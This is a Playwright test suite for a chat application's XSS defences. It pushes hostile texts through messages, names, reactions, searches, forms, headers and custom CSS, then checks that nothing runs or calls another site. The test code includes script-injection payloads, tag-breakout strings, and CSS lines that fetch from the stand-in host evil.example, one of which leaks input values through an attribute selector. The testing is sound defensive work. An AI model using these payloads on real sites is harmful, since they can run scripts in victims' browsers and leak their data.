// Texts that want to run, through every field there is, and every page that shows them. The pages
// are opened without their content security policy: it is the second wall, and these tests look at
// the first. What hostile.txt contains and what counts as foreign stands in watch.ts.
import { answered, each, edit, expect, inviteCode, openRoom, people, person } from "../campfire.ts";
import { post, reply, stored, test as base } from "../campfire.ts";
import type { Room, User } from "../campfire.ts";
import { composer, enter, hydrated, live, message, replyLine, say, texts, toast } from "../chat.ts";
import { use } from "../chat.ts";
import { payloads, strangeIn, strangeInAll, Watch } from "../watch.ts";
import type { APIResponse, BrowserContextOptions, Page } from "@playwright/test";
import { get } from "node:http";

interface Fixtures {
  watch: Watch;
  /** A page in a browser of its own, watched and without the policy. */
  watched: (options?: BrowserContextOptions) => Promise<Page>;
}

const test = base.extend<Fixtures>({
  watch: async ({}, use) => {
    const watch = new Watch();
    await use(watch);
    expect(watch.seen, "something ran, or asked another site").toEqual([]);
  },
  watched: async ({ visitor, watch, server }, use) => {
    await use(async (options) => {
      const page = await visitor({ bypassCSP: true, ...options });
      await watch.over(page.context(), server.url);
      return page;
    });
  },
});

/** Opens a page, waits until all it brings has had its turn, and looks for foreign hands. */
async function look(page: Page, path: string): Promise<void> {
  await page.goto(path);
  if ((await page.locator("#boot").count()) > 0) {
    const scripts = await page.evaluate(() => matchMedia("(scripting: enabled)").matches);
    if (scripts) await hydrated(page);
  }
  await unharmed(page, path);
}

async function unharmed(page: Page, where: string): Promise<void> {
  expect(await strangeIn(page), where).toEqual([]);
}

/** Texts that fit into a field, several in one where they are short. */
function bundles(longest: number, between = " ", of = payloads): string[] {
  const made: string[] = [];
  for (const text of of) {
    if ([...text].length > longest) continue;
    const last = made.at(-1);
    const longer = `${last}${between}${text}`;
    if (last === undefined || [...longer].length > longest) made.push(text);
    else made[made.length - 1] = longer;
  }
  return made;
}

/** Texts for a field of one line: without control characters and spaces around them. */
const lines = payloads.filter((text) => !/[\u0000-\u001f\u007f]/.test(text));
const names = lines.filter((text) => [...text].length <= 60 && text.trim() === text);

/** Some of a list, from all over it. */
function some<T>(of: T[], count: number): T[] {
  return Array.from({ length: count }, (_, at) => of[Math.floor((at * of.length) / count)]!);
}

async function ok(answer: Promise<APIResponse>): Promise<APIResponse> {
  const response = await answer;
  expect(response.status(), `${response.url()}: ${await response.text()}`).toBeLessThan(300);
  return response;
}

// Of thousands of requests a trace costs more than they do.
test.use({ trace: "off" });

base("what these tests look with sees a script that runs", async ({ page, server, guard }) => {
  guard.allow(/.*/);
  expect(payloads.length).toBeGreaterThan(400);
  const watch = new Watch();
  await watch.over(page.context(), server.url);
  const raw = payloads.slice(0, 70);
  const frames = raw.map((text, at) => {
    const html = text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
    return `<iframe name="${at}" srcdoc="${html}"></iframe>`;
  });
  await page.setContent(frames.join(""));
  const ran = (): Set<string> => new Set(watch.seen.map(({ frame }) => frame).filter(Boolean));
  await expect.poll(() => ran().size, "payloads that run by themselves").toBeGreaterThan(40);
  const said = (start: string) => watch.seen.some(({ what }) => what.startsWith(start));
  await expect.poll(() => said("dialog: 1")).toBe(true);
  await expect.poll(() => said("request: https://evil.example/")).toBe(true);
  // Whatever runs is seen by those who only look at the document as well.
  for (const at of ran()) {
    const html = `<div class="message__text">${payloads[Number(at)]}</div>`;
    expect(await strangeIn(page, html), payloads[Number(at)]).not.toEqual([]);
  }
  // So is a mark that does no harm, where none may be, and in a preview what may be in no message.
  for (const html of [
    `<a class="reply-ref"><span dir="auto"><b>quoted</b></span></a>`,
    `<button class="reaction"><span dir="auto"><i>added</i></span></button>`,
    `<div class="composer__context"><strong><em>somebody</em></strong></div>`,
    `<span class="row__note" dir="auto"><b>an excerpt</b></span>`,
    `<div class="composer__preview"><input></div>`,
    `<div class="composer__preview"><a href="javascript:owned()">x</a></div>`,
  ]) {
    expect(await strangeIn(page, html), html).not.toEqual([]);
  }
});

test("a message is text on every screen", async ({ david, jason, watched }) => {
  const storageState = await david.context().storageState();
  for (const page of [david, jason]) await page.goto("about:blank");
  const sent = await each(payloads, (text) => post(jason.request, 1, text));
  // Control characters go, and mentions are read by name.
  const kept = payloads.map((text) => text.replace(/[^\P{Cc}\n\t]/gu, "").trim());
  const read = (text: string): string => text.replace("<@1>", "@David").replace("<@2>", "@Jason");
  expect(sent.map(({ body }) => body.trim())).toEqual(kept.map(read));

  // As the server renders them, and once the page is live, each page around one of them.
  const open = await watched({ storageState });
  const left = new Map(sent.map(({ id }, at) => [String(id), kept[at]!]));
  const paths: string[] = [];
  while (left.size > 0) {
    const path = `/rooms/1/@${[...left.keys()][Math.min(left.size - 1, 24)]}`;
    paths.push(path);
    await look(open, path);
    const rows = await open.locator(".message[data-id]").evaluateAll((rows) =>
      rows.map((row) => {
        const text = row.querySelector(".message__text")?.textContent ?? "";
        return [(row as HTMLElement).dataset.id ?? "", text] as const;
      }),
    );
    for (const [id, text] of rows) {
      const typed = left.get(id);
      if (typed === undefined) continue;
      expect(text.trim(), `what is seen of ${typed}`).not.toBe("");
      // Markdown may have its way with the rest; HTML stays what was typed.
      const tag = /^<[a-z]+[ />]/i.exec(typed)?.[0];
      if (tag) expect(text).toContain(tag);
      left.delete(id);
    }
  }
  const plain = await watched({ storageState, javaScriptEnabled: false });
  for (const path of some(paths, 3)) await look(plain, path);

  // As they arrive while a page is live.
  await enter(open, "/rooms/1");
  const late = await each(some(payloads, 50), (text) => post(jason.request, 1, text));
  for (const { id } of late) await expect(open.locator(`#m-${id}`)).toBeAttached();
  await unharmed(open, "as they arrive");

  // What searching makes of them: some pages as they are opened, all as they are read.
  const pages: [string, string][] = [];
  let next: string | undefined = "/searches?q=owned";
  for (let at = 0; next; at += 1) {
    if (at % 10 === 0) await look(open, next);
    if (at % 10 === 1) await look(plain, next);
    const html = await (await plain.request.get(next)).text();
    pages.push([next, html]);
    const older = /href="([^"]+)"[^>]*>Older messages/.exec(html)?.[1];
    next = older?.replaceAll("&amp;", "&");
  }
  const marks = pages.map(([, html]) => html.split("<mark>").length - 1);
  expect(marks.reduce((a, b) => a + b), "marked words").toBeGreaterThan(250);
  expect(pages.length, "pages of hits").toBeGreaterThan(10);
  expect(await strangeInAll(open, pages)).toEqual([]);
});

test("an edited message is text, and its source is what was typed", async ({
  david,
  watched,
}) => {
  const page = await watched({ storageState: await david.context().storageState() });
  await enter(page, "/rooms/1");
  const bodies = [...bundles(2_000, "\n\n"), ...bundles(2_000, "\n"), ...bundles(2_000, "")];
  const before = [];
  for (const _ of bodies) before.push(await post(david.request, 1, "Before"));
  const after = [];
  for (const [at, body] of bodies.entries()) {
    after.push(await edit(david.request, before[at]!.id, body));
  }
  await expect(page.locator(".message__edited")).toHaveCount(bodies.length);
  await unharmed(page, "as they are changed");
  await look(page, "/rooms/1");
  await expect(page.locator(".message__edited")).toHaveCount(bodies.length);

  const row = page.locator(`#m-${after[0]!.id}`);
  await use(row, "edit");
  const field = page.getByLabel("Message text");
  await expect(field).toHaveValue(after[0]!.body);
  await unharmed(page, "while one is being changed");
  await field.fill(`${payloads[0]}\n${payloads[30]}`);
  await field.press("Control+Enter");
  await expect(row).toContainText(payloads[30]!);
  await unharmed(page, "once it was changed");

  const plain = await watched({
    storageState: await david.context().storageState(),
    javaScriptEnabled: false,
  });
  for (const { id } of [after[1]!, after.at(-1)!]) {
    await look(plain, `/rooms/1/messages/${id}/edit`);
    const [one] = (await stored(david.request, 1)).filter((message) => message.id === id);
    await expect(plain.locator("textarea#body")).toHaveValue(one!.body);
  }
});

test("what is being written, waits or was refused is text", async ({ david, watched, guard }) => {
  guard.allow(answered(422));
  const page = await watched({ storageState: await david.context().storageState() });
  await enter(page, "/rooms/1");
  const [first, ...others] = some(lines.filter((text) => text.startsWith("<")), 12);
  const refusal = { error: { code: "validation", field: "body", message: first } };
  await page.route(/\/messages$/, (route) => route.fulfill({ status: 422, json: refusal }));
  await say(page, first!);
  await expect(page.getByRole("alert")).toContainText(`Not sent. ${first}`);
  await unharmed(page, "a refused message");
  await composer(page).fill("<img src=x onerror=owned()>");
  await live(page, () => page.reload());
  await expect(page.getByRole("alert")).toContainText(first!);
  await expect(composer(page)).toHaveValue("<img src=x onerror=owned()>");
  await unharmed(page, "a refused message and a draft, after a reload");
  await page.unroute(/\/messages$/);
  await page.getByRole("button", { name: "Try again" }).click();
  await expect(page.locator(".message--failed")).toHaveCount(0);
  for (const text of others) {
    await composer(page).fill(text);
    await composer(page).press("Control+Enter");
    await unharmed(page, text);
  }
  await expect(texts(page)).toHaveCount(1 + others.length);
  await expect(page.locator(".message--pending")).toHaveCount(0);
  await unharmed(page, "all of them");
  // Names are offered for what is typed, or are not; nothing of it may run.
  for (const start of ["@<img src=x onerror=owned()>", "#<img src=x onerror=owned()>", ":<img"]) {
    await composer(page).fill("");
    await composer(page).pressSequentially(start);
    await unharmed(page, start);
  }
});

test("a preview is text, and the same as the message it becomes", async ({ david, watched }) => {
  const page = await watched({ storageState: await david.context().storageState() });
  await enter(page, "/rooms/1");
  await page.getByRole("button", { name: "Formatting" }).click();
  const toggle = page.getByRole("toolbar").getByRole("button", { name: "Preview" });
  const preview = page.getByRole("region", { name: "Preview" });
  for (const body of [...bundles(5_000, "\n\n"), ...bundles(5_000, "\n")]) {
    // With control characters and all, which no keys type.
    await composer(page).evaluate((field: HTMLTextAreaElement, body) => {
      field.value = body;
      field.dispatchEvent(new InputEvent("input", { bubbles: true }));
    }, body);
    const written = await composer(page).inputValue();
    await toggle.click();
    await expect(preview).toBeVisible();
    await unharmed(page, `preview of ${body}`);
    const shown = await preview.innerHTML();
    const { id } = await post(david.request, 1, written);
    await expect(page.locator(`#m-${id}`)).toBeAttached();
    expect(await page.locator(`#m-${id} .message__text`).innerHTML()).toBe(shown);
    await toggle.click();
    await expect(composer(page)).toHaveValue(written);
  }
});

test("reactions are text, on messages, in the picker and in activity", async ({
  david,
  jason,
  watched,
}) => {
  // Whole ones, and how the others begin and end.
  const cut = payloads.flatMap((text) => [[...text].slice(0, 16), [...text].slice(-16)]);
  const typed = some([...new Set(cut.map((text) => text.join("").trim()))], 330);
  const open = await watched({ storageState: await david.context().storageState() });
  for (const page of [david, jason]) await page.goto("about:blank");
  await enter(open, "/rooms/1");

  // Twenty of one person on a message at most; refused is what is empty or of several lines.
  const accepted: string[] = [];
  const boosted: number[] = [];
  for (let from = 0; from < typed.length; from += 20) {
    const { id } = await post(david.request, 1, "Ready?");
    boosted.push(id);
    await each(typed.slice(from, from + 20), async (content) => {
      const data = { content };
      const answer = await jason.request.post(`/api/messages/${id}/boosts`, { data });
      if (answer.status() === 201) accepted.push(content);
      else expect(answer.status(), content).toBe(422);
    });
  }
  expect(accepted.length, "reactions that are accepted").toBeGreaterThan(250);
  const shown = open.locator("button.reaction > [dir]");
  await expect(shown).toHaveCount(accepted.length);
  await unharmed(open, "as they are added");
  expect((await shown.allTextContents()).sort()).toEqual([...accepted].sort());
  const plain = await watched({
    storageState: await david.context().storageState(),
    javaScriptEnabled: false,
  });
  await look(open, "/rooms/1");
  expect((await shown.allTextContents()).sort()).toEqual([...accepted].sort());
  await look(plain, "/rooms/1");
  await look(plain, `/rooms/1/messages/${boosted[0]}/boosts`);

  // As somebody types them, into the page that was just looked at.
  const { id } = await post(david.request, 1, "By hand");
  const row = open.locator(`#m-${id}`);
  const short = lines.filter((text) => [...text].length <= 16 && text.trim() === text);
  for (const [at, text] of some(short, 4).entries()) {
    await use(row, "react");
    await row.getByRole("textbox").fill(text);
    await row.getByRole("textbox").press("Enter");
    await expect(row.locator("button.reaction")).toHaveCount(at + 1);
    await unharmed(open, `a reaction with ${text}`);
  }
  await use(row, "react");
  await row.getByRole("textbox").fill("<img src=x onerror=owned()>");
  await row.getByRole("textbox").press("Enter");
  await expect(toast(open)).toContainText("at most 16 characters");
  await unharmed(open, "a reaction that is too long");

  const told = await activity(david);
  await look(open, "/activity");
  await look(plain, "/activity");
  const added = told.flatMap(([, html]) => html.match(/ added /g) ?? []);
  expect(added, "reactions in activity").toHaveLength(accepted.length);
  expect(await strangeInAll(open, told)).toEqual([]);
});

/** All pages of what concerns somebody, as they are read. */
async function activity(page: Page): Promise<[string, string][]> {
  const pages: [string, string][] = [];
  for (let next: string | undefined = "/activity"; next; ) {
    const html = await (await page.request.get(next)).text();
    pages.push([next, html]);
    next = /href="(\/activity\?before=\d+)"/.exec(html)?.[1];
  }
  return pages;
}

test("what a reply quotes is text, wherever it is quoted", async ({ david, jason, watched }) => {
  const storageState = await jason.context().storageState();
  for (const page of [david, jason]) await page.goto("about:blank");
  const quoted = some(payloads, 150);
  const originals = await each(quoted, (text) => post(david.request, 1, text));
  const answers = await each(originals, (original, at) =>
    reply(jason.request, original, quoted.at(at - 1)!),
  );
  const excerpts = new Map(answers.map(({ id, reply_to }) => [String(id), reply_to!.excerpt]));

  // As the server renders them: all as they are read, some as they are opened.
  const [open, plain] = [
    await watched({ storageState }),
    await watched({ storageState, javaScriptEnabled: false }),
  ];
  const paths = Array.from(
    { length: Math.ceil(answers.length / 51) },
    (_, at) => `/rooms/1/@${answers[Math.min(25 + 51 * at, answers.length - 1)]!.id}`,
  );
  const pages: [string, string][] = [];
  for (const path of paths) pages.push([path, await (await david.request.get(path)).text()]);
  for (const path of some(paths, 2)) {
    await look(open, path);
    const quotes = await open.locator(".message:has(.reply-ref)").evaluateAll((rows) =>
      rows.map((row) => {
        const quote = row.querySelector(".reply-ref__what")?.textContent ?? "";
        return [(row as HTMLElement).dataset.id ?? "", quote] as const;
      }),
    );
    expect(quotes.length, path).toBeGreaterThan(40);
    for (const [id, quote] of quotes) expect(quote).toBe(excerpts.get(id));
  }
  await look(plain, paths[0]!);
  await look(plain, `/rooms/1/messages/${originals[0]!.id}/boosts`);
  await look(plain, `/rooms/1/@${originals[0]!.id}?reply=1`);
  await expect(replyLine(plain)).toBeVisible();

  // The line above the composer, for whatever is about to be answered.
  await enter(open, `/rooms/1/@${originals[60]!.id}`);
  const rows = await open.locator(".message[data-id]").all();
  for (const row of some(rows, 15)) {
    await row.focus();
    await open.keyboard.press("r");
    await expect(composer(open)).toBeFocused();
    await expect(replyLine(open)).toContainText("Replying to David");
    await unharmed(open, `about to answer ${await row.textContent()}`);
  }

  // As they arrive, and as what they quote and whom changes.
  await enter(open, "/rooms/1");
  const before = await post(david.request, 1, "Before");
  await reply(jason.request, before, "Answer to what changes");
  const quote = message(open, "Answer to what changes").locator(".reply-ref");
  await expect(quote).toContainText("Before");
  for (const text of some(payloads.filter((text) => text.startsWith("<")), 8)) {
    const { id } = await reply(jason.request, before, "Answer");
    await expect(open.locator(`#m-${id} .reply-ref`)).toBeAttached();
    const { body } = await edit(david.request, before.id, text);
    await expect(quote).toContainText(body.trim().slice(0, 20));
    await unharmed(open, `a quote that becomes ${text}`);
  }
  for (const name of some(names.filter((text) => text.startsWith("<")), 3)) {
    await ok(david.request.patch("/api/me", { data: { ...person("David"), name } }));
    await expect(quote.locator(".reply-ref__who")).toHaveText(name);
    await unharmed(open, `quoted is ${name}`);
  }

  const told = await activity(david);
  expect(told.length, "pages of activity").toBeGreaterThan(2);
  expect(await strangeInAll(open, [...pages, ...told])).toEqual([]);
  const answered = await watched({ storageState: await david.context().storageState() });
  await look(answered, "/activity");
  await expect(answered.locator("#activity .row")).toHaveCount(50);
});

test("what is played, picked, jumped to and looked for is text", async ({
  david,
  jason,
  watched,
  server,
}) => {
  const page = await watched({ storageState: await david.context().storageState() });
  for (const page of [david, jason]) await page.goto("about:blank");
  await enter(page, "/rooms/1");

  // Sounds that there are not.
  const sounds = some(lines, 40).flatMap((text) => [`/play ${text}`, `/play bell ${text}`]);
  const played = await each(sounds, (text) => post(jason.request, 1, text));
  for (const { id } of played) await expect(page.locator(`#m-${id}`)).toBeAttached();
  await unharmed(page, "sounds as they arrive");
  await look(page, "/rooms/1");
  await expect(page.locator(".sound")).toHaveCount(0);
  for (const text of some(lines, 6)) {
    await composer(page).fill("");
    await composer(page).pressSequentially(`/play ${text.slice(0, 12)}`);
    await unharmed(page, `completing /play ${text}`);
  }
  await composer(page).fill("");

  // Rooms and a person to find, by names that go round the page.
  for (const name of some(names, 12)) await openRoom(david.request, name);
  const name = names.find((name) => name.startsWith("<img"))!;
  await ok(jason.request.patch("/api/me", { data: { ...person("Jason"), name } }));
  await enter(page, "/rooms/1");
  const choices = page.getByRole("listbox", { name: "Suggestions" });
  for (const start of ["#", "@<"]) {
    await composer(page).pressSequentially(start);
    await expect(choices).toBeVisible();
    await unharmed(page, `names offered for ${start}`);
    await composer(page).fill("");
  }
  await page.keyboard.press("Control+k");
  const switcher = page.getByRole("combobox", { name: "Room, person or action" });
  const options = page.locator("#switcher-list [role=option]");
  await expect(options.filter({ hasText: name })).not.toHaveCount(0);
  await unharmed(page, "the switcher");
  for (const text of [name, ...some(lines, 8)]) {
    const found = page.waitForResponse(/\/api\/people\?/);
    await switcher.fill(text);
    await found;
    await unharmed(page, `jumping to ${text}`);
  }
  await page.keyboard.press("Escape");

  const emoji = page.getByRole("searchbox", { name: "Find an emoji" });
  await page.getByRole("button", { name: "Emoji", exact: true }).click();
  for (const text of some(lines, 8)) {
    await emoji.fill(text);
    await expect(page.locator(".emoji__title")).toHaveText(["Found"]);
    await unharmed(page, `picking ${text}`);
  }
  await page.keyboard.press("Escape");
  for (const text of some(lines, 6)) {
    await page.getByRole("searchbox", { name: "Find a room" }).fill(text);
    await unharmed(page, `finding ${text}`);
  }

  // What was searched for last: ten at a time.
  const pages: [string, string][] = [];
  const searches = bundles(280, " ", lines);
  for (const [at, q] of searches.entries()) {
    await ok(david.request.post("/searches", { form: { q }, headers: { origin: server.url } }));
    if (at % 10 !== 9) continue;
    const html = await (await david.request.get("/searches")).text();
    pages.push([`searches up to ${q}`, html]);
  }
  expect(pages.length, "pages with recent searches").toBeGreaterThan(4);
  expect(await strangeInAll(page, pages)).toEqual([]);
  await look(page, "/searches");
  const recent = page.getByRole("region", { name: "Recent searches" }).getByRole("link");
  const kept = await recent.allTextContents();
  expect(kept.length).toBeGreaterThan(5);
  for (const text of kept) expect(searches.map((text) => text.trim())).toContain(text);
  await live(page, () => recent.first().click());
  await expect(page.getByRole("searchbox", { name: "Search messages" })).toHaveValue(kept[0]!);
  await unharmed(page, "a search that is taken up again");
});

test("names of people, rooms and the account are text on every page", async ({
  david,
  jason,
  visitor,
  watched,
  server,
  guard,
}) => {
  guard.allow(answered(404));
  const storageState = await david.context().storageState();
  for (const page of [david, jason]) await page.goto("about:blank");
  const open = await watched({ storageState });
  await enter(open, "/rooms/1");
  const api = david.request;
  const code = await inviteCode(api);
  await post(jason.request, 1, "Who am I?");

  // People, each with a text about themselves, and a message that mentions the one before.
  const guests: { page: Page; id: number; name: string }[] = [];
  const about = bundles(200, " ", lines);
  for (const [at, name] of some(names, 8).entries()) {
    const page = await visitor();
    const data = { ...person(`Guest ${at}`), name };
    const agent = { "user-agent": `${name} Firefox/1 ${name}`, "x-forwarded-for": name };
    const headers = /^[\u0020-\u007e]*$/.test(name) ? agent : {};
    const { id } = (await (
      await ok(page.request.post(`/api/join/${code}`, { data, headers }))
    ).json()) as User;
    guests.push({ page, id, name });
    const profile = { ...data, bio: about[at % about.length]! };
    await ok(page.request.patch("/api/me", { data: profile }));
    await post(page.request, 1, `Hello <@${Math.max(id - 1, 1)}>, @${name} and <@1>`);
  }
  await expect(open.locator(".message__author", { hasText: guests.at(-1)!.name })).toBeVisible();
  await unharmed(open, "people who come");

  // Names that change while others look, one after the other.
  const renamed = person("Jason");
  for (const name of some(names, 40)) {
    await ok(jason.request.patch("/api/me", { data: { ...renamed, name } }));
  }
  await expect(open.locator(".message__author").first()).toHaveText(some(names, 40).at(-1)!);
  await unharmed(open, "names that change");

  // Rooms with their topics; conversations are called by their people; the account by itself.
  const titles = bundles(80, " ", lines);
  const topics = bundles(200, " ", lines);
  const rooms: Room[] = [];
  for (const [at, name] of some(titles, 20).entries()) {
    const kind = at % 4 === 0 ? "closed" : "open";
    const data = { name, topic: topics[at % topics.length], kind, user_ids: [] };
    rooms.push((await (await ok(api.post("/api/rooms", { data }))).json()) as Room);
  }
  const user_ids = guests.slice(0, 3).map(({ id }) => id);
  const direct = (await (
    await ok(api.post("/api/rooms", { data: { kind: "direct", name: "", user_ids } }))
  ).json()) as Room;
  await post(guests[0]!.page.request, direct.id, payloads[0]!);
  for (const name of some(names, 12)) {
    await ok(api.patch("/api/account", { data: { account_name: name } }));
    await ok(api.patch(`/api/rooms/${rooms[0]!.id}`, { data: { name, topic: name } }));
  }
  const account = some(names, 12).at(-1)!;
  const sidebar = open.locator("nav.sidebar a[data-room]");
  await expect(sidebar).toHaveCount(rooms.length + 2);
  await expect(open.locator("nav.sidebar")).toContainText(account);
  await unharmed(open, "rooms that come");

  // Whoever writes is named while they do.
  const writer = guests.at(-1)!;
  await enter(writer.page, "/rooms/1");
  await composer(writer.page).pressSequentially("I am");
  await expect(open.locator(".typing")).toContainText(writer.name);
  await unharmed(open, "somebody who writes");

  // A filter for each, and a search that is kept.
  const origin = { origin: server.url };
  for (const q of [`owned from:"${guests[0]!.name}"`, `owned in:"${rooms[0]!.name}"`]) {
    const form = { q };
    await api.post("/searches", { form, headers: origin });
  }

  const paths = [
    "/rooms/1",
    "/account/edit",
    "/account/edit?search=owned",
    "/account/invites",
    "/account/settings",
    "/users/1",
    "/users/me/sessions",
    "/users/me/password",
    "/rooms/new",
    "/rooms/directs/new",
    `/rooms/${direct.id}`,
    `/rooms/${direct.id}/edit`,
    "/searches?q=hello",
    ...guests.slice(0, 2).map(({ id }) => `/users/${id}`),
    ...rooms.slice(0, 2).flatMap(({ id }) => [`/rooms/${id}`, `/rooms/${id}/edit`]),
    `/rooms/${rooms[0]!.id}/delete`,
    `/searches?in=${rooms[0]!.id}`,
  ];
  const plain = await watched({ storageState, javaScriptEnabled: false });
  for (const path of some(paths, 12)) await look(open, path);
  for (const path of some(paths, 3)) {
    await look(plain, path);
    await expect(plain.locator("nav.sidebar"), path).toContainText(account);
  }
  // From room to room within a page.
  await enter(open, "/rooms/1");
  for (const { id, name } of rooms.slice(0, 3)) {
    await open.locator(`nav.sidebar a[data-room="${id}"]`).click();
    if (id !== rooms[0]!.id) await expect(open.getByRole("heading", { level: 1 })).toHaveText(name);
    await unharmed(open, name);
  }
  // All of them as they are read, and the pages for people outside.
  const pages: [string, string][] = [];
  const read = async (page: Page, path: string): Promise<void> => {
    pages.push([path, await (await page.request.get(path)).text()]);
  };
  for (const path of paths) await read(david, path);
  for (const { page, id } of guests) {
    await read(david, `/users/${id}`);
    await read(page, `/users/${id}`);
    await read(page, "/users/me/sessions");
  }
  for (const { id } of rooms) {
    await read(david, `/rooms/${id}`);
    await read(david, `/rooms/${id}/edit`);
  }
  const stranger = await watched();
  const link = await (await ok(api.post("/api/me/link", { data: {} }))).json();
  const victim = guests[0]!.id;
  const reset = await (await ok(api.post(`/api/users/${victim}/reset`, { data: {} }))).json();
  for (const path of ["/session/new", `/join/${code}`, link.url, reset.url]) {
    await look(stranger, path);
    await expect(stranger.locator("main"), path).toContainText(account);
  }
  expect(await strangeInAll(stranger, pages)).toEqual([]);
});

test("what is shown again of a form or an address is text", async ({
  david,
  watched,
  server,
  guard,
}) => {
  guard.allow(...[400, 401, 404, 409, 422].map(answered));
  const storageState = await david.context().storageState();
  const inside = await watched({ storageState });
  const outside = await watched({ javaScriptEnabled: false });
  const code = await inviteCode(david.request);
  await post(david.request, 1, "owned img script");

  // Some of them as people do it.
  for (const text of some(lines, 3)) {
    await outside.goto("/session/new");
    await outside.locator("form").evaluate((form: HTMLFormElement) => (form.noValidate = true));
    await outside.getByLabel("E-mail").fill(text);
    await outside.getByLabel("Password").fill(text);
    await outside.getByRole("button", { name: "Sign in" }).click();
    await expect(outside.getByRole("alert")).toBeVisible();
    await expect(outside.getByLabel("E-mail")).toHaveValue(text.trim());
    await unharmed(outside, `sign-in as ${text}`);

    await outside.goto(`/join/${code}`);
    await outside.locator("form").evaluate((form: HTMLFormElement) => (form.noValidate = true));
    await outside.getByLabel("Your name").evaluate((field, text) => {
      (field as HTMLInputElement).value = text;
    }, text);
    await outside.getByLabel("E-mail").fill(text.replaceAll("@", " "));
    await outside.getByLabel("Password").fill("short");
    await outside.getByRole("button", { name: "Join the chat" }).click();
    await expect(outside.getByLabel("Your name")).toHaveValue(text);
    await unharmed(outside, `joining as ${text}`);

    await enter(inside, "/searches");
    const field = inside.getByRole("searchbox", { name: "Search messages" });
    await field.fill(text);
    await live(inside, () => field.press("Enter"));
    await expect(field).toHaveValue(text.trim());
    await unharmed(inside, `looking for ${text}`);
  }

  // All of them, in every place of a request; what comes back is read by the browser's parser.
  const pages: [string, string][] = [];
  const keep = async (name: string, answer: Promise<APIResponse>): Promise<void> => {
    const response = await answer;
    const where = `${response.status()} ${name}`;
    expect(response.status(), where).not.toBe(500);
    expect(response.headers()["x-content-type-options"], where).toBe("nosniff");
    const kind = response.headers()["content-type"] ?? "";
    if (kind.startsWith("text/html")) pages.push([where, await response.text()]);
    else expect(kind, where).toMatch(/^(application\/json|$)/);
  };
  const [api, stranger] = [david.request, outside.request];
  const headers = { origin: server.url };
  // Bundled, and each place of a request gets every fourth bundle.
  const every = bundles(280, " ");
  const turn = (at: number, place: number): boolean => at % 4 === place % 4;
  for (const [at, text] of every.entries()) {
    const q = encodeURIComponent(text);
    const forms: [string, Record<string, string>][] = [
      ["/searches", { q: text }],
      ["/rooms", { name: text.repeat(2), topic: text, kind: text.slice(0, 9) }],
      ["/rooms", { name: " ", topic: text, kind: "open" }],
      ["/rooms/1/edit", { name: text.repeat(2), topic: text, kind: "open" }],
      ["/rooms/1/involvement", { involvement: text }],
      ["/rooms/directs", { user_ids: text }],
      ["/users/me/profile", { name: " ", email_address: text, bio: text }],
      ["/users/me/password", { current_password: text, password: text }],
      ["/account", { account_name: text, room_creators: text }],
      ["/account/invites", { days: text, max_uses: text }],
      ["/users/2/role", { role: text }],
      ["/theme", { theme: text }],
      [`/rooms/${q}/messages`, { body: text }],
      ["/rooms/1/messages", { body: " ", after: text }],
      [`/rooms/1/messages/${q}/edit`, { body: text }],
    ];
    for (const [path, form] of forms.filter((_, place) => turn(at, place))) {
      await keep(path, api.post(path, { form, headers, maxRedirects: 0 }));
    }
    const entrance = { name: text, email_address: text, password: text, account_name: text };
    const entrances = ["/session", `/join/${code}`, `/join/${q}`, `/session/reset/${q}`];
    for (const path of entrances.filter((_, place) => turn(at, place))) {
      await keep(path, stranger.post(path, { form: entrance, headers }));
    }
    const paths = [
      `/searches?q=${q}`,
      `/searches?q=${encodeURIComponent(`in:"${text.slice(0, 99)}" from:"${text.slice(0, 99)}"`)}`,
      `/searches?q=owned&before=${q}&in=${q}`,
      `/account/edit?search=${q}&page=${q}`,
      `/account/edit?search=${q}`,
      `/rooms/1?plain=${q}&${q}=1`,
      `/rooms/${q}`,
      `/rooms/1/${q}`,
      `/users/${q}`,
      `/account/invites/${q}`,
      `/account/styles/${q}`,
      `/assets/${q}/${q}`,
      `/nowhere/${q}?${q}`,
      `/api/rooms/${q}/messages?before=${q}`,
      `/api/people?q=${q}&room=${q}`,
    ];
    for (const path of paths.filter((_, place) => turn(at, place))) {
      await keep(path, api.get(path, { maxRedirects: 0 }));
    }
    await keep("/session/link", stranger.get(`/session/link/${q}`));
    await keep("/join", stranger.get(`/join/${q}`));
    const cookie = `theme="${q}; last_room=${q}; session_token=${q}`;
    await keep("cookies", stranger.get("/session/new", { headers: { cookie } }));
  }
  for (const text of some(lines.filter((text) => /^[\u0020-\u007e]*$/.test(text)), 12)) {
    pages.push([`host ${text}`, await asHost(server.url, `/join/${code}`, text)]);
  }
  const echoed = pages.filter(([, html]) => html.includes("owned")).length;
  expect(pages.length, "pages that came back").toBeGreaterThan(every.length * 6);
  expect(echoed, "pages that show what was sent").toBeGreaterThan(every.length * 2);
  expect(await strangeInAll(inside, pages)).toEqual([]);
  for (const path of ["/nowhere/", "/rooms/", "/join/", "/users/"]) {
    for (const text of some(lines, 1)) await look(outside, path + encodeURIComponent(text));
  }
  expect((await (await api.get("/api/me")).json()).name).toBe(people.david.name);
});

/** The HTML of a page that was asked for under another name of this computer. */
function asHost(url: string, path: string, host: string): Promise<string> {
  return new Promise((settle, fail) => {
    get(`${url}${path}`, { headers: { host } }, (answer) => {
      let html = "";
      answer.on("data", (part) => (html += part));
      answer.on("end", () => settle(html));
    }).once("error", fail);
  });
}

test("an account's own styles run nothing and ask nobody", async ({ david, watched, guard }) => {
  guard.allow(/Content Security Policy|violates the following/);
  const page = await watched({
    storageState: await david.context().storageState(),
    bypassCSP: false,
  });
  const styles = [
    "@import url(https://evil.example/i.css);",
    "@import '//evil.example/i.css';",
    "@font-face { font-family: Evil; src: url(https://evil.example/f.woff2) }",
    "body { background: url(https://evil.example/bg); font-family: Evil; color: rgb(1, 2, 3) }",
    "p { background: url(javascript:owned()); behavior: url(https://evil.example/b.htc) }",
    "h1::before { content: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>\") }",
    'input[value^="a"] { background: image-set("https://evil.example/a" 1x) }',
    "</style></textarea></head><script>owned()</script>",
    ...lines,
  ].join("\n");
  await ok(david.request.put("/api/account/styles", { data: { styles } }));
  await post(david.request, 1, "Styled");
  for (const path of ["/rooms/1", "/account/settings", "/users/1", "/searches?q=styled"]) {
    await look(page, path);
    await expect(page.locator("body"), "the styles apply").toHaveCSS("color", "rgb(1, 2, 3)");
  }
  await look(page, "/account/settings?plain=1");
  await expect(page.getByLabel("Custom CSS")).toHaveValue(/<\/textarea><\/head><script>owned/);
  const file = await page.locator("link[rel=stylesheet][href*=styles]").count();
  expect(file, "left out on request").toBe(0);
});
